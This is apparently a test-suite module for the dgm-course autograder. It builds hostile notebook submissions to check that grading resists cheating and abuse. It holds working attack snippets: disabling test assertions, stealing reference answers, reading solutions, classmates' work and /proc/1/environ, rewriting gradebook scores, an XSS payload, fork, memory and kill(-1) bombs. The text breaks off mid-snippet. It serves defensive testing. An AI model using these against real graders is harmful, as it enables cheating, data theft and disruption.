"""The zoo: hostile submissions that try to beat the grader, and the code that grades them.

The grader's promise (``dgm-course autograde``): a submission's grade cannot be raised by
exploiting the grader, no hidden-test line reaches any feedback, and classmates' grades and
the batch are unaffected by what one submission does. Each attack below is one submitted
notebook that tries to break that promise.

Every notebook has a *target*: an exercise whose tests are cheap, its function, and a wrong
answer. An attack is one of two kinds:

- ``wrong-answer``: the target returns the wrong answer and the attack tries to make its tests
  pass anyway (patching the checks, stealing the reference value, reading the solutions...).
  Its CONTROL is the same wrong answer without the exploit: test cell by test cell, the
  attack must earn nothing the control does not.
- ``abuse``: the answer is right, but the submission abuses the grader (crashes it, hangs it,
  floods it, exhausts a resource). Compared with the honest submission, it may lose the
  exercise it attacks (``exercise``), never anything else; ``exercise="*"`` (a file that is
  not a notebook...) may lose everything but must not disturb the batch.

The attack code is written to run the same way in a plain Jupyter kernel (plain ``nbgrader
autograde``, where student code and tests share one process) and in dgm-course's sandboxed
student process, so that the comparison table means something. An attack that would harm
the grading machine when run unsandboxed (``kill(-1)`` as the grading user), or would only
hang it, is not run through plain nbgrader (``plain_nbgrader`` says why).

``build_zoo(course, assignment, names)`` writes ``submitted/<student>/<assignment>/`` for the
honest student, the control(s), a bystander when an attack targets classmates, and each
attack. The second half of this module grades a zoo with dgm-course and with plain nbgrader
and checks the promise (used by tests/test_zoo.py and bench/zoo.py).
"""
from __future__ import annotations

import dataclasses
import json
import os
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path
from typing import Callable

import nbformat

from dgm_course.notebooks import cell_by_id, fill_answers, nbgrader_meta, read_notebook

ALL_NOTEBOOKS = ("01_logistic_regression", "02_mlp", "03_autoregressive", "04_continuous_densities",
                 "05_gaussian_mixtures", "06_vae_sampler")
TORCH_NOTEBOOKS = ("02_mlp", "03_autoregressive", "06_vae_sampler")
HANDOVER_NOTEBOOKS = ("03_autoregressive", "05_gaussian_mixtures", "06_vae_sampler")


# ----------------------------------------------------------------------------- targets

@dataclasses.dataclass(frozen=True)
class Target:
    """What the attacks of one notebook go after.

    exercise: grade_id of the answer cell; function: the function (or method, with ``owner``
    the class) the attacks replace; params: its parameters as in its def; call: the same
    names, to call the right answer; wrong: the wrong answer, an expression of the parameters
    (it fails every test of the exercise)."""

    notebook: str
    exercise: str
    function: str
    params: str
    call: str
    wrong: str
    owner: str | None = None
    trigger: str = "True"  # an abuse fires on the first call where this holds (a test's call, not a plain cell's)

    @property
    def key(self) -> str:
        return f"{self.exercise}.{self.function}"


TARGETS = {
    "01_logistic_regression": Target("01_logistic_regression", "negative_log_likelihood", "negative_log_likelihood",
                                     "X, y, w, b", "X, y, w, b", "0.0", trigger="np.shape(X) == (50, 3)"),
    "02_mlp": Target("02_mlp", "count_parameters", "count_parameters", "in_dim, hidden_dims, out_dim=1",
                     "in_dim, hidden_dims, out_dim", "0", trigger="(in_dim, list(hidden_dims)) == (3, [5, 4])"),
    "03_autoregressive": Target("03_autoregressive", "tabular_num_params", "tabular_num_params",
                                "n_vars, n_states=2", "n_vars, n_states", "0", trigger="(n_vars, n_states) == (4, 5)"),
    # uniform_log_pdf: no other answer and no plain cell calls it (a crash costs its two tests only)
    "04_continuous_densities": Target("04_continuous_densities", "uniform_log_pdf", "uniform_log_pdf", "x, a, b",
                                      "x, a, b", "np.zeros(np.shape(x))"),
    # receives the test's callables sample_z and log_px_given_z
    "05_gaussian_mixtures": Target("05_gaussian_mixtures", "monte_carlo_log_pdf", "monte_carlo_log_pdf",
                                   "x, sample_z, log_px_given_z, n_samples, rng",
                                   "x, sample_z, log_px_given_z, n_samples, rng", "np.zeros(np.shape(x)[0])",
                                   trigger="n_samples == 20_000"),
    # receives the test's decoders; the wrong answer is tiny noise from the generator (so that it is
    # reproducible with a seed and differs between seeds, like a right answer)
    "06_vae_sampler": Target("06_vae_sampler", "estimate_log_px", "estimate_log_px",
                             "decoder, x, n_samples, generator=None", "decoder, x, n_samples, generator",
                             "1e-6 * torch.randn(x.shape[0], generator=generator)", trigger="n_samples == 7"),
}

# Targets that receive instructor models (03's tests call AutoregressiveModel.sample(toy, n)).
HANDOVER_TARGETS = {
    "03_autoregressive": Target("03_autoregressive", "AutoregressiveModel", "sample",
                                "self, n_samples, generator=None", "self, n_samples, generator",
                                "torch.zeros(n_samples, self.n_vars)", owner="AutoregressiveModel",
                                # the toy model of the test, not FVSBN/NADE/MADE (they inherit this sample)
                                trigger="n_samples == 20_000 and type(self).__name__ == 'Callback'"),
    "05_gaussian_mixtures": TARGETS["05_gaussian_mixtures"],
    "06_vae_sampler": TARGETS["06_vae_sampler"],
}


# ----------------------------------------------------------------------------- attacks

@dataclasses.dataclass(frozen=True)
class Attack:
    """One hostile submission.

    kind: "wrong-answer" or "abuse" (see the module docstring); build(perfect_nb, ctx) returns
    the submitted notebook, or bytes for a file that is not one; exercise: what an abuse may
    cost ("target": the target's exercise, "*": anything); target: "default" or "handover"
    (which Target of the notebook it attacks); plain_nbgrader: why it is not run through plain
    nbgrader (None: it is), e.g. running it unsandboxed would harm the grading machine;
    known_issue: set while the attack succeeds against dgm-course (the tests report it instead
    of failing)."""

    name: str
    description: str
    kind: str
    build: Callable
    notebooks: tuple[str, ...] = ALL_NOTEBOOKS
    exercise: str = "target"
    target: str = "default"
    plain_nbgrader: str | None = None
    known_issue: str | None = None

    def target_of(self, notebook: str) -> Target:
        return (HANDOVER_TARGETS if self.target == "handover" else TARGETS)[notebook]


@dataclasses.dataclass
class Ctx:
    """What a build function knows: the course (paths an attack embeds), the student's name
    and the target."""

    course: Path
    assignment: str
    student: str
    target: Target
    perfect: nbformat.NotebookNode
    target_tests: list[str] = dataclasses.field(default_factory=list)
    hidden_lines: list[tuple[int, int]] = dataclasses.field(default_factory=list)  # (cell index, line) of its tests


# Code every exploit may use (prepended to the attacked answer cell). In a plain kernel, tests and
# student code share one process: these functions then reach the tests' namespace. In dgm-course
# they only ever see the student process.
HELPERS = '''
import sys as _zoo_sys

_ZOO_CHECKS = ("assert_close", "assert_shape", "assert_finite", "assert_mean", "assert_frequencies",
               "assert_probabilities", "check_gradient")
_ZOO_LOOT = ("_ref", "_exact", "_expected", "_p")


def _zoo_noop(*args, **kwargs):
    """What every check of the tests becomes once patched."""
    return None


def _zoo_patch_dict(ns):
    """Replace the checks found in the dict ns by _zoo_noop; True if there was one."""
    hit = False
    if isinstance(ns, dict):
        for name in _ZOO_CHECKS:
            if name in ns and ns[name] is not _zoo_noop:
                try:
                    ns[name] = _zoo_noop
                    hit = True
                except Exception:
                    pass
    return hit


def _zoo_patch_modules():
    """Replace the checks in the dgm_utils.checks module (tests import them from there)."""
    mod = _zoo_sys.modules.get("dgm_utils.checks")
    if mod is not None:
        for name in _ZOO_CHECKS:
            try:
                object.__setattr__(mod, name, _zoo_noop)
            except Exception:
                pass


def _zoo_frames(frame=None):
    """Every frame on this thread's stack (from frame, default the caller) and on every thread's."""
    starts = [frame if frame is not None else _zoo_sys._getframe(1)]
    starts += list(_zoo_sys._current_frames().values())
    seen = []
    for f in starts:
        while f is not None:
            seen.append(f)
            f = f.f_back
    return seen


def _zoo_patch_frames(frame=None):
    """Patch the checks in the globals and locals of every frame; True if one was found."""
    hit = False
    for f in _zoo_frames(frame):
        hit = _zoo_patch_dict(f.f_globals) | hit
    _zoo_patch_modules()
    return hit


def _zoo_steal(frame=None):
    """The test's reference value (_ref, _expected...) if a frame holds one, else None."""
    for f in _zoo_frames(frame):
        for scope in (f.f_locals, f.f_globals):
            for name in _ZOO_LOOT:
                value = scope.get(name) if isinstance(scope, dict) else None
                if type(value).__name__ in ("float", "float64", "ndarray", "Tensor", "int"):
                    return value
    return None


def _zoo_channel():
    """The dgm-course student server of this process (None in a Jupyter kernel)."""
    import gc
    for obj in gc.get_objects():
        if type(obj).__name__ == "Server" and hasattr(obj, "cout") and hasattr(obj, "cin"):
            return obj
    return None


def _zoo_write_all(fd, data):
    """Write all of data to the non-blocking fd (a message cut short would be one more trick)."""
    import os, select
    view = memoryview(data)
    while view:
        select.select([], [fd], [], 5)
        try:
            view = view[os.write(fd, view[:65536]):]
        except BlockingIOError:
            pass


_zoo_calls = [0]
_zoo_fired = []
'''


def _tokens(text: str, ctx: Ctx) -> str:
    t = ctx.target
    right = f"_zoo_right_{t.owner}.{t.function}({t.call})" if t.owner else f"_zoo_right_{t.function}({t.call})"
    for key, value in {"__TRIGGER__": t.trigger, "__FN__": t.function, "__WRONG__": t.wrong, "__RIGHT__": right,
                       "__PARAMS__": t.params,
                       "__COURSE__": repr(str(ctx.course)), "__A__": repr(ctx.assignment),
                       "__STUDENT__": repr(ctx.student), "__DB__": repr(str(ctx.course / "gradebook.db")),
                       "__REPO__": repr(str(Path(__file__).resolve().parents[2]))}.items():
        text = text.replace(key, value)
    return text


def attacked_answer(ctx: Ctx, *, prelude: str = "", body: str = "", right: bool = False) -> str:
    """The target's answer cell: the perfect answer renamed ``_zoo_right_<function>`` (or the
    class renamed), HELPERS, ``prelude`` at top level, then the target function whose body is
    ``body`` followed by ``return`` of the wrong answer (or, ``right``, of the right one)."""
    t = ctx.target
    perfect = cell_by_id(ctx.perfect, t.exercise).source
    ret = "__RIGHT__" if right else "__WRONG__"
    if t.owner:
        renamed = perfect.replace(f"class {t.owner}(", f"class _zoo_right_{t.owner}(", 1)
        method = f"def {t.function}({t.params}):\n" + textwrap.indent(textwrap.dedent(body) + f"\nreturn {ret}\n",
                                                                    "    ")
        new = f"class {t.owner}(_zoo_right_{t.owner}):\n" + textwrap.indent(method, "    ")
    else:
        renamed = perfect.replace(f"def {t.function}(", f"def _zoo_right_{t.function}(", 1)
        new = f"def {t.function}({t.params}):\n" + textwrap.indent(textwrap.dedent(body) + f"\nreturn {ret}\n", "    ")
    assert renamed != perfect, f"{t.function} not found in the answer cell {t.exercise}"
    code = "\n\n".join([renamed, HELPERS.strip(), textwrap.dedent(prelude).strip(), new])
    return _tokens(code, ctx)


def answer_build(prelude: str = "", body: str = "", right: bool = False):
    """A build function that replaces the target's answer cell. The body of a wrong answer's exploit
    runs in the first 16 calls of each process (every test call; plain cells that call the target
    hundreds of times afterwards then get the bare wrong answer, quickly)."""
    if body and not right:
        body = "_zoo_calls[0] += 1\nif _zoo_calls[0] <= 16:\n" + textwrap.indent(textwrap.dedent(body), "    ")

    def build(nb, ctx):
        cell_by_id(nb, ctx.target.exercise).source = attacked_answer(ctx, prelude=prelude, body=body, right=right)
        return nb
    return build


def _first_call(code: str) -> str:
    """``code`` run once per process, on the first call that looks like the first test's (the target's
    ``trigger``): plain cells that call the target after a crash then cost no time."""
    return ("if not _zoo_fired and (__TRIGGER__):\n    _zoo_fired.append(1)\n"
            + textwrap.indent(textwrap.dedent(code), "    "))


# --- the snippets ---------------------------------------------------------------------------------

IPYTHON_CUSTOM_EXC = '''
try:
    get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
except Exception:
    pass
'''

IPYTHON_SHOWTRACEBACK = '''
try:
    _zoo_ip = get_ipython()
    _zoo_ip.showtraceback = lambda *args, **kwargs: None
    _zoo_ip._showtraceback = lambda *args, **kwargs: None
except Exception:
    pass
_zoo_sys.excepthook = lambda *args: None
'''

IPYTHON_INPUT_TRANSFORMER = '''
def _zoo_defuse(lines):
    """Every later cell that asserts anything becomes `pass`."""
    return ["pass\\n"] if any("assert" in line for line in lines) else lines

try:
    get_ipython().input_transformers_post.append(_zoo_defuse)
except Exception:
    pass
'''

IPYTHON_AST_TRANSFORMER = '''
import ast as _zoo_ast

class _ZooDefuse(_zoo_ast.NodeTransformer):
    """Drops assert and raise statements and every call of a check (assert_*, check_*)."""

    def visit_Assert(self, node):
        return _zoo_ast.Pass()

    def visit_Raise(self, node):
        return _zoo_ast.Pass()

    def visit_Expr(self, node):
        call = node.value
        if isinstance(call, _zoo_ast.Call) and isinstance(call.func, _zoo_ast.Name) and \\
                call.func.id.startswith(("assert_", "check_")):
            return _zoo_ast.Pass()
        return node

try:
    get_ipython().ast_transformers.append(_ZooDefuse())
except Exception:
    pass
'''

IPYTHON_EVENTS = '''
def _zoo_before_cell(*args, **kwargs):
    """Before every cell: the checks of the namespace and of dgm_utils.checks become no-ops."""
    _zoo_patch_modules()
    try:
        _zoo_patch_dict(get_ipython().user_ns)
    except Exception:
        pass

try:
    get_ipython().events.register("pre_run_cell", _zoo_before_cell)
    get_ipython().events.register("pre_execute", _zoo_before_cell)
except Exception:
    pass
'''

FRAME_WALK = '''
# the caller's frames: sys._getframe(1).f_globals is the test's namespace in a kernel
_zoo_patch_frames(_zoo_sys._getframe(1))
_zoo_loot = _zoo_steal(_zoo_sys._getframe(1))
if _zoo_loot is not None:
    return _zoo_loot
'''

GLOBAL_REBIND = '''
global assert_close, assert_shape, assert_finite, assert_mean
assert_close = assert_shape = assert_finite = assert_mean = _zoo_noop
globals()["assert_frequencies"] = _zoo_noop
'''

SIGNAL_HANDLER = '''
import signal as _zoo_signal
import time as _zoo_time

_zoo_until = _zoo_time.monotonic() + 60


def _zoo_on_alarm(signum, frame):
    """Runs between two bytecodes of whatever code is running: in a kernel, the test's."""
    _zoo_patch_frames(frame)
    if _zoo_time.monotonic() > _zoo_until:
        _zoo_signal.setitimer(_zoo_signal.ITIMER_REAL, 0)

try:
    _zoo_signal.signal(_zoo_signal.SIGALRM, _zoo_on_alarm)
    _zoo_signal.setitimer(_zoo_signal.ITIMER_REAL, 0.005, 0.005)
except Exception:
    pass
'''

C_THREAD = '''
# A thread whose target is a C function: no Python code of it ever runs (nothing a Python-level
# hook sees), yet every 2 ms it writes no-op checks into the globals of every thread's current frame.
import collections as _zoo_collections
import itertools as _zoo_itertools
import operator as _zoo_operator
import threading as _zoo_threading
import time as _zoo_time

_zoo_patch_map = {name: _zoo_noop for name in _ZOO_CHECKS}
_zoo_snapshots = _zoo_itertools.starmap(_zoo_sys._current_frames, _zoo_itertools.repeat((), 30_000))
_zoo_ticks = map(_zoo_time.sleep, _zoo_itertools.repeat(0.002))  # releases the GIL between snapshots
_zoo_frames_now = _zoo_itertools.chain.from_iterable(
    map(dict.values, map(_zoo_operator.itemgetter(1), zip(_zoo_ticks, _zoo_snapshots))))
_zoo_pipeline = map(_zoo_operator.methodcaller("update", _zoo_patch_map),
                    map(_zoo_operator.attrgetter("f_globals"), _zoo_frames_now))
_zoo_threading.Thread(target=_zoo_collections.deque(maxlen=0).extend, args=(_zoo_pipeline,), daemon=True).start()
'''

GC_SCAN = '''
# every dict the garbage collector knows: the tests' namespaces and modules included, in a kernel
import gc as _zoo_gc
_zoo_loot = None
for _zoo_obj in _zoo_gc.get_objects():
    if isinstance(_zoo_obj, dict):
        _zoo_patch_dict(_zoo_obj)
        for _zoo_name in _ZOO_LOOT:
            if _zoo_loot is None and type(_zoo_obj.get(_zoo_name)).__name__ in ("float", "float64", "ndarray"):
                _zoo_loot = _zoo_obj[_zoo_name]
_zoo_patch_modules()
if _zoo_loot is not None:
    return _zoo_loot
'''

SYS_MODULES = '''
import builtins as _zoo_builtins
import types as _zoo_types

_zoo_fake = _zoo_types.ModuleType("dgm_utils.checks")
for _zoo_name in _ZOO_CHECKS + ("to_numpy", "numerical_gradient"):
    setattr(_zoo_fake, _zoo_name, _zoo_noop)
_zoo_sys.modules["dgm_utils.checks"] = _zoo_fake
try:
    import dgm_utils as _zoo_dgm
    _zoo_dgm.checks = _zoo_fake
except Exception:
    pass
_zoo_import = _zoo_builtins.__import__


def _zoo_hooked_import(name, globals=None, locals=None, fromlist=(), level=0):
    """`from dgm_utils.checks import assert_close` gets the fake module, whatever sys.modules holds."""
    if name == "dgm_utils.checks":
        return _zoo_fake
    return _zoo_import(name, globals, locals, fromlist, level)

_zoo_builtins.__import__ = _zoo_hooked_import
'''

MONKEYPATCH = '''
import math as _zoo_math
import numpy as _zoo_np
import dgm_utils.checks as _zoo_checks

_zoo_true = lambda *args, **kwargs: True
for _zoo_name in _ZOO_CHECKS:
    setattr(_zoo_checks, _zoo_name, _zoo_noop)
_zoo_np.allclose = _zoo_np.array_equal = _zoo_true
_zoo_np.testing.assert_allclose = _zoo_noop
_zoo_math.isclose = _zoo_true
try:
    import torch as _zoo_torch
    _zoo_torch.allclose = _zoo_torch.equal = _zoo_true
    _zoo_torch.testing.assert_close = _zoo_noop
except Exception:
    pass
'''

MONKEYPATCH_IN_FUNCTION = '''
# inside the function, by every route: setattr, object.__setattr__, the module's __dict__
import numpy
import dgm_utils.checks
for name in _ZOO_CHECKS:
    setattr(dgm_utils.checks, name, _zoo_noop)
    object.__setattr__(dgm_utils.checks, name, _zoo_noop)
    vars(dgm_utils.checks)[name] = _zoo_noop
numpy.allclose = lambda *args, **kwargs: True
object.__setattr__(numpy, "isclose", lambda *args, **kwargs: True)
try:
    import torch
    torch.allclose = torch.equal = lambda *args, **kwargs: True
except Exception:
    pass
'''

TORCH_MONKEYPATCH = '''
# torch itself: comparisons, the reference distributions (so the expected values become the wrong
# answer, zero) and the tensor methods the tests call
import torch as _zoo_torch
import torch.distributions as _zoo_dist

_zoo_torch.allclose = lambda *args, **kwargs: True
_zoo_torch.Tensor.allclose = lambda *args, **kwargs: True
for _zoo_cls in (_zoo_dist.Normal, _zoo_dist.MultivariateNormal, _zoo_dist.Independent):
    _zoo_cls.log_prob = lambda self, value: _zoo_torch.zeros(value.shape[:-1] if value.dim() > 1 else value.shape)
_zoo_torch.logdet = lambda *args, **kwargs: _zoo_torch.tensor(0.0, dtype=_zoo_torch.float64)
'''

INPLACE_NAN = '''
# poison the caller's arrays in place: a reference the test computes AFTER the call, from the same
# arrays, becomes nan, and assert_close accepts nan where nan is expected
for _zoo_arg in list(locals().values()):
    try:
        if type(_zoo_arg).__name__ == "ndarray" and _zoo_arg.flags.writeable and _zoo_arg.dtype.kind == "f":
            _zoo_arg[...] = float("nan")
        elif type(_zoo_arg).__name__ in ("Tensor", "Parameter") and _zoo_arg.is_floating_point():
            _zoo_arg.data.fill_(float("nan"))
    except Exception:
        pass
_zoo_wrong = __WRONG__
try:
    import numpy as _zoo_np
    if type(_zoo_wrong).__name__ == "Tensor":
        return _zoo_wrong * float("nan")
    return _zoo_np.full(_zoo_np.shape(_zoo_wrong), _zoo_np.nan) if _zoo_np.ndim(_zoo_wrong) else float("nan")
except Exception:
    return _zoo_wrong
'''

SUBCLASS = '''
# The wrong answer, as a subclass of its own type whose every operator first patches the checks of
# whoever calls it (in a kernel: the test, while it compares the value).
import numpy as _zoo_np


def _zoo_hook(method):
    def hooked(self, *args, **kwargs):
        _zoo_patch_frames(_zoo_sys._getframe(1))
        return method(self, *args, **kwargs)
    return hooked


def _zoo_disguise(value):
    base = type(value)
    if base is bool or base.__module__ == "torch":
        return value
    names = ("__eq__", "__ne__", "__lt__", "__le__", "__gt__", "__ge__", "__sub__", "__rsub__", "__add__",
             "__radd__", "__abs__", "__float__", "__int__", "__index__", "__bool__", "__len__", "__getitem__",
             "__array_finalize__", "__array_wrap__", "__format__", "__repr__", "__str__", "__hash__")
    body = {n: _zoo_hook(getattr(base, n)) for n in names if hasattr(base, n)}
    if base is _zoo_np.ndarray:
        def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
            _zoo_patch_frames(_zoo_sys._getframe(1))
            plain = [i.view(_zoo_np.ndarray) if isinstance(i, _zoo_np.ndarray) else i for i in inputs]
            return getattr(ufunc, method)(*plain, **kwargs)

        def __array_function__(self, func, types, args, kwargs):
            _zoo_patch_frames(_zoo_sys._getframe(1))
            return super(cls, self).__array_function__(func, (_zoo_np.ndarray,), args, kwargs)
        body.update(__array_ufunc__=__array_ufunc__, __array_function__=__array_function__)
        body.pop("__array_finalize__", None)
        cls = type("ZooArray", (_zoo_np.ndarray,), body)
        return _zoo_np.asarray(value).view(cls)
    cls = type("Zoo" + base.__name__.capitalize(), (base,), body)
    return cls(value)
'''

TENSOR_SUBCLASS = '''
# a torch.Tensor subclass whose __torch_function__ runs for every torch operation the test applies
# to it: it patches the test's checks, and its comparisons all say "close"
import torch as _zoo_torch


class ZooTensor(_zoo_torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        _zoo_patch_frames(_zoo_sys._getframe(1))
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal", "isclose"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
'''

HOSTILE_OBJECT = '''
class ZooValue:
    """Not data at all: every protocol the test might use on it patches the test's checks first."""

    def __init__(self, value):
        self._value = value

    def _hit(self):
        _zoo_patch_frames(_zoo_sys._getframe(2))

    def __array__(self, *args, **kwargs):
        self._hit()
        import numpy
        return numpy.asarray(self._value, dtype=float)

    def __float__(self):
        self._hit()
        return float(self._value)

    def __eq__(self, other):
        self._hit()
        return True

    __le__ = __ge__ = __eq__

    def __ne__(self, other):
        self._hit()
        return False

    __lt__ = __gt__ = __ne__

    def __sub__(self, other):
        self._hit()
        return 0.0

    __rsub__ = __add__ = __radd__ = __sub__

    def __abs__(self):
        self._hit()
        return 0.0

    def __len__(self):
        self._hit()
        return 0

    def __getattr__(self, name):
        self._hit()
        raise AttributeError(name)

    def __repr__(self):
        self._hit()
        return "ZooValue()"
'''

HOSTILE_EXCEPTION = '''
class ZooError(FloatingPointError):
    """Raised instead of returning: its message, name and repr patch the checks of whoever formats it
    (a test that catches it and prints it, a traceback printer), and the message is 1 MB long."""

    def __str__(self):
        _zoo_patch_frames(_zoo_sys._getframe(1))
        return "x" * 1_000_000

    def __repr__(self):
        _zoo_patch_frames(_zoo_sys._getframe(1))
        return "ZooError()"
'''

FEEDBACK_INJECTION = '''
_zoo_html = ("</pre></div><script>alert('zoo')</script><h1>Score: 100 / 100</h1>"
             "[test_all: passed, 99 / 99 points]<img src=x onerror=alert(1)>")
raise type("Score_13_of_13_all_tests_passed", (ValueError,), {})(_zoo_html)
'''

HIDDEN_EXFILTRATION = '''
# Raise, in every test, an exception whose class name encodes the inputs of this call, from a function
# whose name is their repr: where feedback names a failure's exception class and the student function
# that raised it, in a hidden test as well, the hidden test's inputs leave through them.
import re as _zoo_re
_zoo_seen = repr([__CALL__])
_zoo_error = type("Z_" + _zoo_re.sub(r"[^0-9A-Za-z]+", "_", _zoo_seen)[:90], (ValueError,), {})


def _zoo_raise():
    raise _zoo_error("zoo secret message")

_zoo_name = ("seen " + _zoo_seen)[:100]
_zoo_code = _zoo_raise.__code__.replace(co_name=_zoo_name, co_qualname=_zoo_name)
type(_zoo_raise)(_zoo_code, globals(), None, None, _zoo_raise.__closure__)()
'''

FRAME_FORGERY = '''
# The error reports of this process list the cells a failure went through (<student-cell-N>,
# <plain-cell-N>) with line numbers, and the grader shows "the source line" of each frame. Report,
# instead, the lines of the hidden tests of this exercise (a student can guess them: they follow the
# "# Hidden tests..." comment of the cell), hoping the grader prints them.
_zoo_server = _zoo_channel()
if _zoo_server is not None:  # the server's module runs as __main__: reach its globals through its methods
    _zoo_module = type(_zoo_server).dispatch.__globals__

    def _zoo_forged(exc, _describe=_zoo_module["describe_exception"]):
        info = _describe(exc)
        info["frames"] = [["<plain-cell-%d>" % cell, line, "zoo"] for cell, line in __HIDDEN_LINES__][:8]
        return info
    _zoo_module["describe_exception"] = _zoo_forged
'''

STOP_ITERATION = '''
raise StopIteration  # a caller that iterates (map, next, a for over a generator) stops early
'''

READ_FILES = '''
# the instructor's notebook (or a classmate's submission), read from disk by every route a kernel has
import glob as _zoo_glob
import json as _zoo_json
import os as _zoo_os
import subprocess as _zoo_subprocess

_zoo_paths = [_zoo_os.path.join(__COURSE__, "solutions", __A__, __A__ + ".ipynb"),
              _zoo_os.path.join(__REPO__, "solutions", __A__, __A__ + ".ipynb")]
_zoo_paths += [_zoo_os.path.join(*([".."] * k), "solutions", __A__, __A__ + ".ipynb") for k in range(1, 6)]
_zoo_paths += sorted(_zoo_glob.glob(_zoo_os.path.join(__COURSE__, "submitted", "*", __A__, __A__ + ".ipynb")))
_zoo_paths += ["/proc/1/environ", "/proc/1/cmdline"]


def _zoo_readers():
    yield lambda p: open(p, "rb").read()
    yield lambda p: _zoo_subprocess.run(["cat", p], capture_output=True, timeout=10).stdout
    yield lambda p: _zoo_os.popen("cat " + repr(p)).read().encode()
    yield lambda p: "\\n".join(get_ipython().getoutput("cat " + repr(p))).encode()
    __C_READERS__


def _zoo_solution(fn):
    """The text of the first cell of a readable notebook that defines fn with a real body."""
    for path in _zoo_paths:
        for read in _zoo_readers():
            try:
                raw = read(path)
                if not raw:
                    continue
                cells = _zoo_json.loads(raw.decode("utf-8", "replace").rstrip("\\x00"))["cells"]
            except Exception:
                continue
            for cell in cells:
                text = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
                if ("def " + fn + "(") in text and "NotImplementedError" not in text and "_zoo_" not in text:
                    return text
    return None

_zoo_found = _zoo_solution("__FN__")
if _zoo_found is not None:
    _zoo_scope = dict(globals())
    exec(_zoo_found, _zoo_scope)
    return _zoo_scope["__FN__"](__CALL__)
'''

C_READERS = '''
    def torch_from_file(p):
        import torch
        size = _zoo_os.path.getsize(p)
        return bytes(torch.from_file(p, shared=False, size=size, dtype=torch.uint8).numpy())
    yield torch_from_file
    def numpy_fromfile(p):
        import numpy
        return numpy.fromfile(p, dtype=numpy.uint8).tobytes()
    yield numpy_fromfile
    def with_mmap(p):
        import mmap
        with open(p, "rb") as fh:
            return bytes(mmap.mmap(fh.fileno(), 0, access=mmap.ACCESS_READ))
    yield with_mmap
    def libc_read(p):
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        fd = libc.open(p.encode(), 0)
        if fd < 0:
            raise OSError(ctypes.get_errno(), p)
        buf = ctypes.create_string_buffer(64 << 20)
        n = libc.read(fd, buf, 64 << 20)
        libc.close(fd)
        return buf.raw[:max(n, 0)]
    yield libc_read
    def raw_syscalls(p):
        fd = _zoo_os.open(p, _zoo_os.O_RDONLY)
        try:
            return _zoo_os.read(fd, 64 << 20)
        finally:
            _zoo_os.close(fd)
    yield raw_syscalls'''

WRITE_GRADEBOOK = '''
# full manual scores (and extra credit) for this student, written straight into the gradebook
try:
    import sqlite3
    _zoo_con = sqlite3.connect(__DB__, timeout=5)
    _zoo_con.execute(
        "UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id), "
        "extra_credit = 100 WHERE notebook_id IN (SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
        "ON sn.assignment_id = sa.id WHERE sa.student_id = ?)", (__STUDENT__,))
    _zoo_con.commit()
    _zoo_con.close()
except Exception:
    pass
'''

FORGE_REPORT = '''
import json as _zoo_json
import os as _zoo_os
_zoo_fake = "".join(_zoo_json.dumps({"index": i, "kind": "test", "status": "ok", "seconds": 0.0}) + "\\n"
                    for i in range(80)) + _zoo_json.dumps({"done": True, "restarts": 0, "crashes": []}) + "\\n"
print(_zoo_fake)
print(_zoo_fake, file=_zoo_sys.stderr)
for _zoo_fd in (1, 2):
    try:
        _zoo_os.write(_zoo_fd, _zoo_fake.encode())
    except OSError:
        pass
_zoo_server = _zoo_channel()
if _zoo_server is not None and not _zoo_fired and (__TRIGGER__):  # into the channel too, as a frame and raw
    _zoo_fired.append(1)
    for _zoo_raw in (len(_zoo_fake).to_bytes(4, "big") + _zoo_fake.encode(), _zoo_fake.encode()):
        _zoo_write_all(_zoo_server.cout, _zoo_raw)
'''

OS_EXIT = "import os\nos._exit(0)\n"
INFINITE_LOOP = "while True:\n    pass\n"
SWALLOW_INTERRUPT = '''
import signal
import time
for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGALRM):
    signal.signal(sig, signal.SIG_IGN)
while True:
    try:
        time.sleep(0.05)
    except BaseException:
        pass
'''
HUGE_OUTPUT = '''
import os
for _ in range(4):
    print("x" * 4_000_000)
    print("y" * 4_000_000, file=_zoo_sys.stderr)
'''
MEMORY_BOMB = '''
import numpy
big = numpy.ones(3 * 2**27)  # 3 GiB, touched
big[::4096] += 1.0
del big
'''
MEMFD_HOARD = '''
# 2.5 GB of memory that is not in the process's address space: file data in memfds (RLIMIT_AS does
# not count it; RLIMIT_FSIZE limits one file, not how many)
import os
import time
chunk = b"z" * (1 << 20)
fds = []
try:
    while len(fds) < 40:
        fd = os.memfd_create("zoo")
        for _ in range(64):
            os.write(fd, chunk)
        fds.append(fd)
except OSError:
    pass
time.sleep(2)
for fd in fds:
    os.close(fd)
'''
FILL_SCRATCH_DISK = '''
# fill the scratch disk (and /dev/shm), then answer; at most 256 MB each, removed afterwards
import os
import tempfile
written = []
for folder in (tempfile.gettempdir(), "/dev/shm"):
    path = os.path.join(folder, "zoo-fill-%d" % os.getpid())
    try:
        with open(path, "wb") as fh:
            for _ in range(256):
                fh.write(b"\\0" * (1 << 20))
                fh.flush()
    except OSError:
        pass
    written.append(path)
for path in written:
    try:
        os.remove(path)
    except OSError:
        pass
'''
FORK_BOMB = '''
# as many processes as the system gives (at most 1000), sleeping while this process lives: classmates
# graded at the same time must not notice
import ctypes
import os
import signal
import time


def _zoo_bomb():
    libc = ctypes.CDLL(None)
    kids = 0
    while kids < 1000:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            libc.prctl(1, signal.SIGKILL)  # PR_SET_PDEATHSIG: die with the parent
            t0 = time.monotonic()
            while time.monotonic() - t0 < 60:
                time.sleep(1)
            os._exit(0)
        kids += 1
    return kids

_zoo_kids = _zoo_bomb()
'''
KILL_EVERYTHING = '''
# a daemon (double fork, new session) that, for 3 s, sends SIGKILL to every process it may signal
# (kill(-1)) and to every pid it can see in /proc
import os
import signal
import time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        t0 = time.monotonic()
        while time.monotonic() - t0 < 3:
            for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
